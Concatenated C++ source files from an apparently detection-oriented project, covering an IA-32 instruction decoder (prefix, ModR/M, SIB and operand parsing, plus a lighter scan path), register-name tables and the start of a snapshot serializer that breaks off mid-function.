/// IA-32 condition codes (low nibble of Jcc/SETcc opcodes).
[[nodiscard]] std::string_view condition_suffix(std::uint8_t cc) noexcept;

/// Instruction class flags. Assigned partly from static opcode properties
/// and partly from decoded operands (e.g. whether a ModR/M operand ended up
/// in memory form). Validity policies in mel::exec key off these.
enum InstructionFlags : std::uint32_t {
  kFlagNone = 0,
  kFlagCondBranch = 1u << 0,    ///< Jcc, LOOPcc, JECXZ.
  kFlagUncondBranch = 1u << 1,  ///< JMP (near, relative or indirect).
  kFlagCall = 1u << 2,          ///< CALL (near or far).
  kFlagRet = 1u << 3,           ///< RET / RETF / IRET.
  kFlagBranchIndirect = 1u << 4,  ///< Target from register/memory (FF /2,/4).
  kFlagBranchFar = 1u << 5,       ///< Far JMP/CALL with ptr16:32.
  kFlagIoString = 1u << 6,      ///< INS/OUTS family ('l','m','n','o' bytes).
  kFlagIoPort = 1u << 7,        ///< IN/OUT port instructions.
  kFlagPrivileged = 1u << 8,    ///< HLT/CLI/STI/LGDT-class; faults in ring 3.
  kFlagInterrupt = 1u << 9,     ///< INT/INT3/INTO/INT1.
  kFlagString = 1u << 10,       ///< MOVS/CMPS/STOS/LODS/SCAS.
  kFlagStackRead = 1u << 11,    ///< POP/POPA/POPF/RET/LEAVE.
  kFlagStackWrite = 1u << 12,   ///< PUSH/PUSHA/PUSHF/CALL/ENTER.
  kFlagSegmentLoad = 1u << 13,  ///< MOV Sw,Ew / POP seg / LES / LDS.
  kFlagMemRead = 1u << 14,      ///< Reads a non-stack memory operand.
  kFlagMemWrite = 1u << 15,     ///< Writes a non-stack memory operand.
  kFlagFpu = 1u << 16,          ///< x87 escape.
  kFlagSystem = 1u << 17,       ///< SYSENTER/SYSEXIT/CPUID/RDTSC/0F00/0F01.
  kFlagUndefined = 1u << 18,    ///< Undefined opcode (raises #UD).
  kFlagLegacyBcd = 1u << 19,    ///< AAA/DAA-class text opcodes.
};

enum class OperandKind : std::uint8_t {
  kNone = 0,
  kRegister,   ///< GPR of Operand::width.
  kSegment,    ///< Segment register.
  kImmediate,  ///< Immediate constant.
  kMemory,     ///< ModR/M (or implicit) memory reference.
  kRelative,   ///< Branch displacement relative to next instruction.
  kFarPointer, ///< ptr16:32 immediate far address.
};

/// One decoded operand.
struct Operand {
  OperandKind kind = OperandKind::kNone;
  Width width = Width::kDword;

  // kRegister / kSegment.
  Gpr reg = Gpr::kNone;
  SegReg seg = SegReg::kNone;

  // kMemory: effective address components. kNone base+index with
  // has_displacement means an absolute (explicit) address.
  Gpr base = Gpr::kNone;
  Gpr index = Gpr::kNone;
  std::uint8_t scale = 1;  ///< 1, 2, 4 or 8.
  bool has_displacement = false;
  std::int32_t displacement = 0;

  // kImmediate / kRelative / kFarPointer.
  std::int64_t immediate = 0;    ///< Sign-extended immediate or rel target delta.
  std::uint16_t far_segment = 0; ///< kFarPointer selector.

  [[nodiscard]] bool is_memory() const noexcept {
    return kind == OperandKind::kMemory;
  }
  /// Absolute-address memory operand with no base/index register
  /// (the paper's "explicit memory address" case).
  [[nodiscard]] bool is_absolute_memory() const noexcept {
    return is_memory() && base == Gpr::kNone && index == Gpr::kNone;
  }
};

inline constexpr std::size_t kMaxOperands = 3;
inline constexpr std::size_t kMaxInstructionLength = 15;

/// A fully decoded instruction.
struct Instruction {
  std::size_t offset = 0;  ///< Byte offset of the first prefix/opcode byte.
  std::uint8_t length = 0; ///< Total encoded length in bytes.

  Mnemonic mnemonic = Mnemonic::kInvalid;
  std::uint8_t cc = 0;        ///< Condition code for kJcc / kSetcc.
  std::uint8_t group_reg = 0; ///< ModR/M reg field for group opcodes.

  // Prefix state.
  std::uint8_t prefix_count = 0;       ///< Number of prefix bytes consumed.
  SegReg segment_override = SegReg::kNone;
  bool operand_size_16 = false;  ///< 0x66 seen.
  bool address_size_16 = false;  ///< 0x67 seen.
  bool lock_prefix = false;      ///< 0xF0 seen.
  bool rep_prefix = false;       ///< 0xF2/0xF3 seen.

  std::uint32_t flags = kFlagNone;
  std::array<Operand, kMaxOperands> operands{};
  std::uint8_t operand_count = 0;

  /// Effective data width: byte for byte-form opcodes, else the v width
  /// (dword, or word under the 0x66 prefix). Drives the b/w/d suffix of
  /// implicit-operand instructions (movs/ins/outs/stos/...).
  Width data_width = Width::kDword;

  [[nodiscard]] bool has_flag(InstructionFlags flag) const noexcept {
    return (flags & flag) != 0;
  }
  [[nodiscard]] bool is_branch() const noexcept {
    return (flags & (kFlagCondBranch | kFlagUncondBranch | kFlagCall |
                     kFlagRet)) != 0;
  }
  [[nodiscard]] bool accesses_memory() const noexcept {
    return (flags & (kFlagMemRead | kFlagMemWrite)) != 0;
  }
  /// Next sequential offset (fall-through successor).
  [[nodiscard]] std::size_t end_offset() const noexcept {
    return offset + length;
  }
  /// For kRelative branches: absolute target offset within the stream.
  /// Precondition: the first operand is kRelative.
  [[nodiscard]] std::int64_t branch_target() const noexcept {
    return static_cast<std::int64_t>(end_offset()) + operands[0].immediate;
  }
  /// First memory operand, or nullptr when none exists.
  [[nodiscard]] const Operand* memory_operand() const noexcept {
    for (std::size_t i = 0; i < operand_count; ++i) {
      if (operands[i].is_memory()) return &operands[i];
    }
    return nullptr;
  }
};

}  // namespace mel::disasm
