#include "mel/disasm/decoder.hpp"

#include <algorithm>
#include <cassert>

#include "mel/disasm/opcode_table.hpp"
#include "mel/disasm/scan_decoder.hpp"

namespace mel::disasm {

namespace {

using OT = OpTemplate;

/// Cursor over the byte stream; tracks consumption and truncation.
class Cursor {
 public:
  Cursor(util::ByteView bytes, std::size_t offset)
      : bytes_(bytes), pos_(offset) {}

  [[nodiscard]] bool truncated() const noexcept { return truncated_; }
  [[nodiscard]] std::size_t position() const noexcept { return pos_; }
  [[nodiscard]] bool has(std::size_t count) const noexcept {
    return pos_ + count <= bytes_.size();
  }

  /// Reads one byte; on truncation returns 0 and latches the error.
  std::uint8_t u8() noexcept {
    if (!has(1)) {
      truncated_ = true;
      return 0;
    }
    return bytes_[pos_++];
  }

  std::uint16_t u16() noexcept {
    const std::uint16_t lo = u8();
    const std::uint16_t hi = u8();
    return static_cast<std::uint16_t>(lo | (hi << 8));
  }

  std::uint32_t u32() noexcept {
    const std::uint32_t lo = u16();
    const std::uint32_t hi = u16();
    return lo | (hi << 16);
  }

 private:
  util::ByteView bytes_;
  std::size_t pos_;
  bool truncated_ = false;
};

Width v_width(const Instruction& insn) noexcept {
  return insn.operand_size_16 ? Width::kWord : Width::kDword;
}

Operand make_reg(std::uint8_t raw, Width width) noexcept {
  Operand operand;
  operand.kind = OperandKind::kRegister;
  operand.width = width;
  operand.reg = static_cast<Gpr>(raw & 7);
  return operand;
}

Operand make_seg(SegReg seg) noexcept {
  Operand operand;
  operand.kind = OperandKind::kSegment;
  operand.seg = seg;
  return operand;
}

Operand make_imm(std::int64_t value, Width width) noexcept {
  Operand operand;
  operand.kind = OperandKind::kImmediate;
  operand.width = width;
  operand.immediate = value;
  return operand;
}

/// Decoded ModR/M state, shared by the register and memory operand slots.
struct ModRm {
  bool present = false;
  std::uint8_t mod = 0;
  std::uint8_t reg = 0;
  std::uint8_t rm = 0;
  Operand rm_operand;  ///< Register or memory form of the r/m field.
};

/// Decodes the ModR/M byte plus SIB/displacement into `modrm.rm_operand`.
void decode_effective_address(Cursor& cursor, Instruction& insn,
                              ModRm& modrm) {
  const std::uint8_t byte = cursor.u8();
  modrm.present = true;
  modrm.mod = byte >> 6;
  modrm.reg = (byte >> 3) & 7;
  modrm.rm = byte & 7;

  Operand& operand = modrm.rm_operand;
  if (modrm.mod == 3) {
    operand.kind = OperandKind::kRegister;
    operand.reg = static_cast<Gpr>(modrm.rm);
    return;
  }
  operand.kind = OperandKind::kMemory;

  if (insn.address_size_16) {
    // 16-bit addressing forms (0x67 prefix): fixed base/index pairs.
    static constexpr Gpr kBase[8] = {Gpr::kEbx, Gpr::kEbx, Gpr::kEbp,
                                     Gpr::kEbp, Gpr::kEsi, Gpr::kEdi,
                                     Gpr::kEbp, Gpr::kEbx};
    static constexpr Gpr kIndex[8] = {Gpr::kEsi, Gpr::kEdi, Gpr::kEsi,
                                      Gpr::kEdi, Gpr::kNone, Gpr::kNone,
                                      Gpr::kNone, Gpr::kNone};
    operand.base = kBase[modrm.rm];
    operand.index = kIndex[modrm.rm];
    if (modrm.mod == 0 && modrm.rm == 6) {
      operand.base = Gpr::kNone;  // disp16 absolute.
      operand.has_displacement = true;
      operand.displacement = static_cast<std::int16_t>(cursor.u16());
    } else if (modrm.mod == 1) {
      operand.has_displacement = true;
      operand.displacement = static_cast<std::int8_t>(cursor.u8());
    } else if (modrm.mod == 2) {
      operand.has_displacement = true;
      operand.displacement = static_cast<std::int16_t>(cursor.u16());
    }
    return;
  }

  // 32-bit addressing.
  if (modrm.rm == 4) {
    const std::uint8_t sib = cursor.u8();
    const std::uint8_t scale_bits = sib >> 6;
    const std::uint8_t index = (sib >> 3) & 7;
    const std::uint8_t base = sib & 7;
    operand.scale = static_cast<std::uint8_t>(1u << scale_bits);
    operand.index = (index == 4) ? Gpr::kNone : static_cast<Gpr>(index);
    if (base == 5 && modrm.mod == 0) {
      operand.base = Gpr::kNone;  // [index*scale + disp32]
      operand.has_displacement = true;
      operand.displacement = static_cast<std::int32_t>(cursor.u32());
    } else {
      operand.base = static_cast<Gpr>(base);
    }
  } else if (modrm.rm == 5 && modrm.mod == 0) {
    operand.base = Gpr::kNone;  // disp32 absolute.
    operand.has_displacement = true;
    operand.displacement = static_cast<std::int32_t>(cursor.u32());
  } else {
    operand.base = static_cast<Gpr>(modrm.rm);
  }

  if (modrm.mod == 1) {
    operand.has_displacement = true;
    operand.displacement = static_cast<std::int8_t>(cursor.u8());
  } else if (modrm.mod == 2) {
    operand.has_displacement = true;
    operand.displacement = static_cast<std::int32_t>(cursor.u32());
  }
}

Instruction invalid_at(std::size_t offset, std::size_t consumed) {
  Instruction insn;
  insn.offset = offset;
  insn.mnemonic = Mnemonic::kInvalid;
  insn.flags = kFlagUndefined;
  insn.length = static_cast<std::uint8_t>(
      std::min<std::size_t>(consumed ? consumed : 1, kMaxInstructionLength));
  return insn;
}

/// Facts-path twin of invalid_at(): same flags and honest-length report,
/// everything else reset to defaults (matching a freshly constructed
/// Instruction from invalid_at).
ScanFacts scan_invalid(std::size_t consumed) {
  ScanFacts facts;
  facts.mnemonic = Mnemonic::kInvalid;
  facts.flags = kFlagUndefined;
  facts.length = static_cast<std::uint8_t>(
      std::min<std::size_t>(consumed ? consumed : 1, kMaxInstructionLength));
  // Every consumed byte potentially drove the bail-out decision, so the
  // whole encoding is structural.
  facts.structure_len = facts.length;
  return facts;
}

/// ModR/M summary for the scan path: raw fields plus the two derived
/// properties the facts need (memory form, absolute addressing). Consumes
/// exactly the bytes decode_effective_address() would, in the same order.
struct ScanModRm {
  std::uint8_t mod = 0;
  std::uint8_t reg = 0;
  std::uint8_t rm = 0;
  bool memory_form = false;  ///< rm_operand.kind would be kMemory.
  bool absolute = false;     ///< rm_operand.is_absolute_memory().
  /// Trailing displacement bytes consumed: the EA's shape-determining
  /// bytes (ModR/M, SIB) end disp_bytes before the cursor.
  std::uint8_t disp_bytes = 0;
};

void scan_effective_address(Cursor& cursor, bool address_size_16,
                            ScanModRm& modrm) {
  const std::uint8_t byte = cursor.u8();
  modrm.mod = byte >> 6;
  modrm.reg = (byte >> 3) & 7;
  modrm.rm = byte & 7;
  if (modrm.mod == 3) return;  // Register form.
  modrm.memory_form = true;

  if (address_size_16) {
    // 16-bit forms: base/index come from fixed pairs, so the only
    // absolute form is the mod==0 rm==6 disp16 special case.
    if (modrm.mod == 0 && modrm.rm == 6) {
      modrm.absolute = true;
      (void)cursor.u16();
      modrm.disp_bytes = 2;
    } else if (modrm.mod == 1) {
      (void)cursor.u8();
      modrm.disp_bytes = 1;
    } else if (modrm.mod == 2) {
      (void)cursor.u16();
      modrm.disp_bytes = 2;
    }
    return;
  }

  // 32-bit addressing.
  if (modrm.rm == 4) {
    const std::uint8_t sib = cursor.u8();
    const std::uint8_t index = (sib >> 3) & 7;
    const std::uint8_t base = sib & 7;
    if (base == 5 && modrm.mod == 0) {
      // [index*scale + disp32]; absolute only when the index is absent too.
      modrm.absolute = (index == 4);
      (void)cursor.u32();
      modrm.disp_bytes = 4;
    }
  } else if (modrm.rm == 5 && modrm.mod == 0) {
    modrm.absolute = true;  // disp32 absolute.
    (void)cursor.u32();
    modrm.disp_bytes = 4;
  }
  if (modrm.mod == 1) {
    (void)cursor.u8();
    modrm.disp_bytes += 1;
  } else if (modrm.mod == 2) {
    (void)cursor.u32();
    modrm.disp_bytes += 4;
  }
}

}  // namespace

bool is_prefix_byte(std::uint8_t b) noexcept {
  return one_byte_table()[b].is_prefix;
}

Instruction decode_instruction(util::ByteView bytes, std::size_t offset) {
  Instruction insn;
  insn.offset = offset;
  if (offset >= bytes.size()) {
    insn.mnemonic = Mnemonic::kInvalid;
    insn.flags = kFlagUndefined;
    insn.length = 0;
    return insn;
  }

  Cursor cursor(bytes, offset);

  // --- Prefix loop ---------------------------------------------------------
  // The architectural limit is 15 bytes for the whole instruction; a longer
  // prefix chain raises #UD, which we report as an invalid instruction.
  while (cursor.has(1)) {
    const std::uint8_t byte = bytes[cursor.position()];
    const OpcodeInfo& maybe_prefix = one_byte_table()[byte];
    if (!maybe_prefix.is_prefix) break;
    (void)cursor.u8();
    ++insn.prefix_count;
    switch (byte) {
      case 0x26: insn.segment_override = SegReg::kEs; break;
      case 0x2E: insn.segment_override = SegReg::kCs; break;
      case 0x36: insn.segment_override = SegReg::kSs; break;
      case 0x3E: insn.segment_override = SegReg::kDs; break;
      case 0x64: insn.segment_override = SegReg::kFs; break;
      case 0x65: insn.segment_override = SegReg::kGs; break;
      case 0x66: insn.operand_size_16 = true; break;
      case 0x67: insn.address_size_16 = true; break;
      case 0xF0: insn.lock_prefix = true; break;
      case 0xF2:
      case 0xF3: insn.rep_prefix = true; break;
      default: break;
    }
    if (cursor.position() - offset >= kMaxInstructionLength) {
      return invalid_at(offset, cursor.position() - offset);
    }
  }
  if (!cursor.has(1)) {
    // Stream ended inside the prefix chain.
    return invalid_at(offset, cursor.position() - offset);
  }

  // --- Opcode --------------------------------------------------------------
  std::uint8_t opcode = cursor.u8();
  const OpcodeInfo* info = nullptr;
  if (opcode == 0x0F) {
    if (!cursor.has(1)) return invalid_at(offset, cursor.position() - offset);
    opcode = cursor.u8();
    info = &two_byte_table()[opcode];
  } else {
    info = &one_byte_table()[opcode];
  }
  if (!info->defined() || info->is_prefix) {
    return invalid_at(offset, cursor.position() - offset);
  }
  if (info->mnemonic == Mnemonic::kUnknown && info->group == OpGroup::kNone) {
    // Recognized page, unmodeled opcode: keep kUnknown + kFlagUndefined so
    // policies treat it conservatively, but report honest length-so-far.
    Instruction unknown = invalid_at(offset, cursor.position() - offset);
    unknown.mnemonic = Mnemonic::kUnknown;
    return unknown;
  }

  insn.mnemonic = info->mnemonic;
  insn.flags |= info->flags;
  if (insn.mnemonic == Mnemonic::kJcc || insn.mnemonic == Mnemonic::kSetcc ||
      insn.mnemonic == Mnemonic::kCmovcc) {
    insn.cc = opcode & 0xF;
  }
  bool dst_writes = info->dst_writes;
  bool dst_reads = info->dst_reads;

  // --- ModR/M + group resolution --------------------------------------------
  ModRm modrm;
  if (info->needs_modrm()) {
    decode_effective_address(cursor, insn, modrm);
    if (cursor.truncated()) {
      return invalid_at(offset, cursor.position() - offset);
    }
  }
  OT op_templates[kMaxOperands] = {info->op1, info->op2, info->op3};
  if (info->group != OpGroup::kNone) {
    const GroupEntry& entry = group_entry(info->group, modrm.reg);
    if (!entry.defined()) {
      return invalid_at(offset, cursor.position() - offset);  // #UD encoding.
    }
    insn.mnemonic = entry.mnemonic;
    insn.flags |= entry.extra_flags;
    dst_writes = entry.dst_writes;
    dst_reads = entry.dst_reads;
    insn.group_reg = modrm.reg;
    // Group 3 TEST (reg field 0/1) carries an immediate after the r/m.
    if (info->group == OpGroup::kGroup3 && modrm.reg <= 1) {
      op_templates[1] = (info->op1 == OT::kEb) ? OT::kIb : OT::kIz;
    }
  }

  // --- Operands --------------------------------------------------------------
  const Width vw = v_width(insn);
  bool saw_byte_form = false;
  for (std::size_t i = 0; i < kMaxOperands; ++i) {
    const OT ot = op_templates[i];
    if (ot == OT::kNone) break;
    Operand operand;
    bool no_access = false;  // LEA-style address-only operand.
    switch (ot) {
      case OT::kEb:
        operand = modrm.rm_operand;
        operand.width = Width::kByte;
        saw_byte_form = true;
        break;
      case OT::kEv:
        operand = modrm.rm_operand;
        operand.width = vw;
        break;
      case OT::kEw:
        operand = modrm.rm_operand;
        operand.width = Width::kWord;
        break;
      case OT::kGb:
        operand = make_reg(modrm.reg, Width::kByte);
        saw_byte_form = true;
        break;
      case OT::kGv:
        operand = make_reg(modrm.reg, vw);
        break;
      case OT::kGw:
        operand = make_reg(modrm.reg, Width::kWord);
        break;
      case OT::kSw:
        if (modrm.reg >= 6) {
          return invalid_at(offset, cursor.position() - offset);  // #UD.
        }
        operand = make_seg(static_cast<SegReg>(modrm.reg));
        break;
      case OT::kM:
      case OT::kMa:
      case OT::kMp:
        if (modrm.rm_operand.kind != OperandKind::kMemory) {
          return invalid_at(offset, cursor.position() - offset);  // #UD.
        }
        operand = modrm.rm_operand;
        operand.width = vw;
        no_access = (ot == OT::kM);
        break;
      case OT::kIb:
        operand = make_imm(static_cast<std::int8_t>(cursor.u8()), Width::kByte);
        break;
      case OT::kIbU:
        operand = make_imm(cursor.u8(), Width::kByte);
        break;
      case OT::kIw:
        operand = make_imm(cursor.u16(), Width::kWord);
        break;
      case OT::kIz:
        operand = insn.operand_size_16
                      ? make_imm(cursor.u16(), Width::kWord)
                      : make_imm(static_cast<std::int32_t>(cursor.u32()),
                                 Width::kDword);
        break;
      case OT::kI1:
        operand = make_imm(1, Width::kByte);
        break;
      case OT::kJb: {
        operand = make_imm(static_cast<std::int8_t>(cursor.u8()), Width::kByte);
        operand.kind = OperandKind::kRelative;
        break;
      }
      case OT::kJz: {
        const std::int64_t rel =
            insn.operand_size_16 ? static_cast<std::int16_t>(cursor.u16())
                                 : static_cast<std::int32_t>(cursor.u32());
        operand = make_imm(rel, vw);
        operand.kind = OperandKind::kRelative;
        break;
      }
      case OT::kAp: {
        const std::int64_t target =
            insn.operand_size_16 ? cursor.u16()
                                 : static_cast<std::int64_t>(cursor.u32());
        operand = make_imm(target, vw);
        operand.kind = OperandKind::kFarPointer;
        operand.far_segment = cursor.u16();
        break;
      }
      case OT::kOb:
      case OT::kOv: {
        operand.kind = OperandKind::kMemory;
        operand.width = (ot == OT::kOb) ? Width::kByte : vw;
        if (ot == OT::kOb) saw_byte_form = true;
        operand.has_displacement = true;
        operand.displacement = insn.address_size_16
                                   ? static_cast<std::int32_t>(cursor.u16())
                                   : static_cast<std::int32_t>(cursor.u32());
        break;
      }
      case OT::kRegB:
        operand = make_reg(opcode & 7, Width::kByte);
        saw_byte_form = true;
        break;
      case OT::kRegV:
        operand = make_reg(opcode & 7, vw);
        break;
      case OT::kAL:
        operand = make_reg(0, Width::kByte);
        saw_byte_form = true;
        break;
      case OT::kCL:
        operand = make_reg(1, Width::kByte);
        break;
      case OT::kDX:
        operand = make_reg(2, Width::kWord);
        break;
      case OT::keAX:
        operand = make_reg(0, vw);
        break;
      case OT::kSeg:
        operand = make_seg(info->fixed_seg);
        break;
      case OT::kNone:
        break;
    }
    if (cursor.truncated()) {
      return invalid_at(offset, cursor.position() - offset);
    }
    // Memory access classification: first operand follows the opcode's
    // read/write behaviour, later operands are sources (reads). LEA's kM
    // computes an address without touching memory.
    if (operand.is_memory() && !no_access) {
      if (i == 0) {
        if (dst_writes) insn.flags |= kFlagMemWrite;
        if (dst_reads) insn.flags |= kFlagMemRead;
      } else {
        insn.flags |= kFlagMemRead;
      }
    }
    insn.operands[insn.operand_count++] = operand;
  }

  const std::size_t consumed = cursor.position() - offset;
  if (consumed > kMaxInstructionLength) {
    return invalid_at(offset, consumed);
  }
  insn.length = static_cast<std::uint8_t>(consumed);
  // Byte-form string/I/O opcodes are even (a4/a6/aa/ac/ae/6c/6e).
  const bool implicit_byte =
      insn.has_flag(kFlagString) && (opcode & 1) == 0;
  insn.data_width = (saw_byte_form || implicit_byte) ? Width::kByte : vw;
  return insn;
}

ScanFacts scan_instruction(util::ByteView bytes, std::size_t offset) {
  ScanFacts facts;
  if (offset >= bytes.size()) {
    facts.flags = kFlagUndefined;
    facts.length = 0;
    return facts;
  }

  Cursor cursor(bytes, offset);
  bool operand_size_16 = false;
  bool address_size_16 = false;

  // --- Prefix loop (mirrors decode_instruction byte for byte) --------------
  while (cursor.has(1)) {
    const std::uint8_t byte = bytes[cursor.position()];
    if (!one_byte_table()[byte].is_prefix) break;
    (void)cursor.u8();
    switch (byte) {
      case 0x26: facts.segment_override = SegReg::kEs; break;
      case 0x2E: facts.segment_override = SegReg::kCs; break;
      case 0x36: facts.segment_override = SegReg::kSs; break;
      case 0x3E: facts.segment_override = SegReg::kDs; break;
      case 0x64: facts.segment_override = SegReg::kFs; break;
      case 0x65: facts.segment_override = SegReg::kGs; break;
      case 0x66: operand_size_16 = true; break;
      case 0x67: address_size_16 = true; break;
      default: break;
    }
    if (cursor.position() - offset >= kMaxInstructionLength) {
      return scan_invalid(cursor.position() - offset);
    }
  }
  if (!cursor.has(1)) {
    return scan_invalid(cursor.position() - offset);
  }

  // --- Opcode --------------------------------------------------------------
  std::uint8_t opcode = cursor.u8();
  const OpcodeInfo* info = nullptr;
  if (opcode == 0x0F) {
    if (!cursor.has(1)) return scan_invalid(cursor.position() - offset);
    opcode = cursor.u8();
    info = &two_byte_table()[opcode];
  } else {
    info = &one_byte_table()[opcode];
  }
  if (!info->defined() || info->is_prefix) {
    return scan_invalid(cursor.position() - offset);
  }
  if (info->mnemonic == Mnemonic::kUnknown && info->group == OpGroup::kNone) {
    ScanFacts unknown = scan_invalid(cursor.position() - offset);
    unknown.mnemonic = Mnemonic::kUnknown;
    return unknown;
  }

  facts.mnemonic = info->mnemonic;
  facts.flags |= info->flags;
  bool dst_writes = info->dst_writes;
  bool dst_reads = info->dst_reads;

  // --- ModR/M + group resolution -------------------------------------------
  ScanModRm modrm;
  if (info->needs_modrm()) {
    scan_effective_address(cursor, address_size_16, modrm);
    if (cursor.truncated()) {
      return scan_invalid(cursor.position() - offset);
    }
  }
  // Structural bytes end here: prefixes, opcode, ModR/M and SIB. The bytes
  // past this point (displacement, immediates) only carry VALUES — they
  // never change length, flags, mnemonic or operand shape. AAM is the one
  // exception (its immediate value decides aam_immediate_zero) and is
  // patched below.
  const std::size_t structure_end = cursor.position() - modrm.disp_bytes;
  OT op_templates[kMaxOperands] = {info->op1, info->op2, info->op3};
  if (info->group != OpGroup::kNone) {
    const GroupEntry& entry = group_entry(info->group, modrm.reg);
    if (!entry.defined()) {
      return scan_invalid(cursor.position() - offset);  // #UD encoding.
    }
    facts.mnemonic = entry.mnemonic;
    facts.flags |= entry.extra_flags;
    dst_writes = entry.dst_writes;
    dst_reads = entry.dst_reads;
    if (info->group == OpGroup::kGroup3 && modrm.reg <= 1) {
      op_templates[1] = (info->op1 == OT::kEb) ? OT::kIb : OT::kIz;
    }
  }

  // --- Operands (consumption only; no Operand materialization) -------------
  for (std::size_t i = 0; i < kMaxOperands; ++i) {
    const OT ot = op_templates[i];
    if (ot == OT::kNone) break;
    bool is_memory = false;    // Operand.kind would be kMemory.
    bool is_absolute = false;  // Operand.is_absolute_memory().
    bool no_access = false;    // LEA-style address-only operand.
    switch (ot) {
      case OT::kEb:
      case OT::kEv:
      case OT::kEw:
        is_memory = modrm.memory_form;
        is_absolute = modrm.absolute;
        break;
      case OT::kGb:
      case OT::kGv:
      case OT::kGw:
        break;
      case OT::kSw:
        if (modrm.reg >= 6) {
          return scan_invalid(cursor.position() - offset);  // #UD.
        }
        break;
      case OT::kM:
      case OT::kMa:
      case OT::kMp:
        if (!modrm.memory_form) {
          return scan_invalid(cursor.position() - offset);  // #UD.
        }
        is_memory = true;
        is_absolute = modrm.absolute;
        no_access = (ot == OT::kM);
        break;
      case OT::kIb:
      case OT::kIbU: {
        const std::uint8_t imm = cursor.u8();
        if (i == 0 && facts.mnemonic == Mnemonic::kAam) {
          facts.aam_immediate_zero = (imm == 0);
        }
        break;
      }
      case OT::kIw:
        (void)cursor.u16();
        break;
      case OT::kIz:
        if (operand_size_16) {
          (void)cursor.u16();
        } else {
          (void)cursor.u32();
        }
        break;
      case OT::kI1:
        break;
      case OT::kJb: {
        const auto rel = static_cast<std::int8_t>(cursor.u8());
        if (i == 0) {
          facts.has_relative = true;
          facts.rel_displacement = rel;
          facts.rel_size = 1;
        }
        break;
      }
      case OT::kJz: {
        const std::int32_t rel =
            operand_size_16 ? static_cast<std::int16_t>(cursor.u16())
                            : static_cast<std::int32_t>(cursor.u32());
        if (i == 0) {
          facts.has_relative = true;
          facts.rel_displacement = rel;
          facts.rel_size = operand_size_16 ? 2 : 4;
        }
        break;
      }
      case OT::kAp:
        if (operand_size_16) {
          (void)cursor.u16();
        } else {
          (void)cursor.u32();
        }
        (void)cursor.u16();  // Selector.
        break;
      case OT::kOb:
      case OT::kOv:
        is_memory = true;
        is_absolute = true;  // moffs is always disp-only.
        if (address_size_16) {
          (void)cursor.u16();
        } else {
          (void)cursor.u32();
        }
        break;
      case OT::kRegB:
      case OT::kRegV:
      case OT::kAL:
      case OT::kCL:
      case OT::kDX:
      case OT::keAX:
      case OT::kSeg:
      case OT::kNone:
        break;
    }
    if (cursor.truncated()) {
      return scan_invalid(cursor.position() - offset);
    }
    if (is_memory && !no_access) {
      if (i == 0) {
        if (dst_writes) facts.flags |= kFlagMemWrite;
        if (dst_reads) facts.flags |= kFlagMemRead;
      } else {
        facts.flags |= kFlagMemRead;
      }
    }
    if (is_memory && !facts.has_memory_operand) {
      facts.has_memory_operand = true;
      facts.first_memory_absolute = is_absolute;
    }
  }

  const std::size_t consumed = cursor.position() - offset;
  if (consumed > kMaxInstructionLength) {
    return scan_invalid(consumed);
  }
  facts.length = static_cast<std::uint8_t>(consumed);
  facts.structure_len =
      facts.mnemonic == Mnemonic::kAam
          ? facts.length  // The AAM immediate's value is structural.
          : static_cast<std::uint8_t>(structure_end - offset);
  return facts;
}

std::vector<Instruction> linear_sweep(util::ByteView bytes,
                                      std::size_t start) {
  std::vector<Instruction> result;
  std::size_t offset = start;
  while (offset < bytes.size()) {
    Instruction insn = decode_instruction(bytes, offset);
    assert(insn.length >= 1);
    offset += insn.length;
    result.push_back(std::move(insn));
  }
  return result;
}

}  // namespace mel::disasm
