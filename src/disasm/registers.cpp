#include "mel/disasm/registers.hpp"

#include <array>

namespace mel::disasm {

namespace {
constexpr std::array<std::string_view, 8> kNames32 = {
    "eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi"};
constexpr std::array<std::string_view, 8> kNames16 = {
    "ax", "cx", "dx", "bx", "sp", "bp", "si", "di"};
constexpr std::array<std::string_view, 8> kNames8 = {
    "al", "cl", "dl", "bl", "ah", "ch", "dh", "bh"};
constexpr std::array<std::string_view, 6> kSegNames = {"es", "cs", "ss",
                                                       "ds", "fs", "gs"};
}  // namespace

std::string_view gpr_name(Gpr reg, Width width) noexcept {
  const auto index = static_cast<std::uint8_t>(reg);
  if (index >= 8) return "?";
  switch (width) {
    case Width::kByte:
      return kNames8[index];
    case Width::kWord:
      return kNames16[index];
    case Width::kDword:
      return kNames32[index];
  }
  return "?";
}

std::string_view seg_name(SegReg seg) noexcept {
  const auto index = static_cast<std::uint8_t>(seg);
  if (index >= 6) return "?";
  return kSegNames[index];
}

}  // namespace mel::disasm
