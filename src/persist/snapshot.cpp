#include "mel/persist/snapshot.hpp"

#include <bit>
#include <cmath>
#include <cstring>
#include <string>

#include "mel/core/config_io.hpp"
#include "mel/util/crc32c.hpp"

namespace mel::persist {

namespace {

// Section ids. New ids may be added within a format version (readers
// skip unknown ids); changing an existing section's layout requires a
// version bump.
enum SectionId : std::uint32_t {
  kSectionDetectorConfig = 1,
  kSectionCalibration = 2,
  kSectionCacheMeta = 3,
  kSectionDriftState = 4,
};

inline constexpr std::size_t kHeaderBytes = 20;
inline constexpr std::size_t kSectionHeaderBytes = 20;

void append_u32(util::ByteBuffer& out, std::uint32_t value) {
  out.push_back(static_cast<std::uint8_t>(value));
  out.push_back(static_cast<std::uint8_t>(value >> 8));
  out.push_back(static_cast<std::uint8_t>(value >> 16));
  out.push_back(static_cast<std::uint8_t>(value >> 24));
}

void append_u64(util::ByteBuffer& out, std::uint64_t value) {
  append_u32(out, static_cast<std::uint32_t>(value));
  append_u32(out, static_cast<std::uint32_t>(value >> 32));
}

void append_double(util::ByteBuffer& out, double value) {
  append_u64(out, std::bit_cast<std::uint64_t>(value));
}

/// Bounds-checked little-endian reader over the snapshot bytes.
class Reader {
 public:
  explicit Reader(util::ByteView bytes) : bytes_(bytes) {}

  [[nodiscard]] std::size_t remaining() const noexcept {
    return bytes_.size() - pos_;
  }
  [[nodiscard]] std::size_t position() const noexcept { return pos_; }

  [[nodiscard]] bool read_u32(std::uint32_t& out) noexcept {
    if (remaining() < 4) return false;
    out = static_cast<std::uint32_t>(bytes_[pos_]) |
          (static_cast<std::uint32_t>(bytes_[pos_ + 1]) << 8) |
          (static_cast<std::uint32_t>(bytes_[pos_ + 2]) << 16) |
          (static_cast<std::uint32_t>(bytes_[pos_ + 3]) << 24);
    pos_ += 4;
    return true;
  }

  [[nodiscard]] bool read_u64(std::uint64_t& out) noexcept {
    std::uint32_t low = 0;
    std::uint32_t high = 0;
    if (!read_u32(low) || !read_u32(high)) return false;
    out = static_cast<std::uint64_t>(low) |
